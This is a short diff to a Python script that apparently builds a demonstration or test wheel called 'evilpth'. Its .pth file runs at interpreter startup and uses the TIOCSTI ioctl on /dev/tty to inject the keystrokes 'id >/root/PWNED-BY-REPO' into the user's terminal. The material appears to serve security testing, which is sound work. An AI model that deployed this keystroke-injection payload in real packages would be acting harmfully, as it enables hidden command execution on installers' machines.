@@ -7,10 +7,16 @@ import os
 import sys
 import zipfile
 
-CODE = (
-    "import os; exec(\"import fcntl\\ntry:\\n t = os.open('/dev/tty', os.O_RDWR)\\n"
-    " [fcntl.ioctl(t, 0x5412, c.encode()) for c in 'id >/root/PWNED-BY-REPO\\\\n']\\nexcept OSError: pass\")\n"
-)
+# One line, since Python takes each line of such a file for itself.
+TYPING = """import fcntl
+try:
+    terminal = os.open("/dev/tty", os.O_RDWR)
+    for letter in "id >/root/PWNED-BY-REPO\\n":
+        fcntl.ioctl(terminal, 0x5412, letter.encode())
+except OSError:
+    pass
+"""
+CODE = f"import os; exec({TYPING!r})\n"
 INFO = "evilpth-1.0.dist-info"
 FILES = {
     "evilpth.pth": CODE,
